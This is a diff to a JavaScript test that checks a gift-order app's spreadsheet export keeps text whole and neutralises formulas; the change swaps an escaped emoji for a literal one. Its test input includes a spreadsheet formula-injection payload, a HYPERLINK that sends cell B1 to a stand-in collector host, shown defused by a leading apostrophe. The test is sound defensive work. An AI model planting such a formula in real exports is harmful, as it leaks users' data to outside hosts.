@@ -190,7 +190,7 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
   const email = giftwell.newAddress('exported')
   await send(request, {
     name: '=HYPERLINK("https://collector.example/?"&B1,"Prices")',
-    company: `Ünïque, "${word}" & Søns ${'\u{1F381}'}`,
+    company: `Ünïque, "${word}" & Søns 🎁`,
     email,
     message: 'one\ntwo; three',
     selected_products: ['Mug, tall', 'Pen'],
@@ -212,7 +212,7 @@ test('what is listed is exported for spreadsheets, whole and without formulas', 
     ['Plain', word, email, "'+91 98765 43210", '', '', date],
     [
       `'=HYPERLINK("https://collector.example/?"&B1,"Prices")`,
-      `Ünïque, "${word}" & Søns ${'\u{1F381}'}`,
+      `Ünïque, "${word}" & Søns 🎁`,
       email,
       "'+91 98765 43210",
       'Mug, tall; Pen',
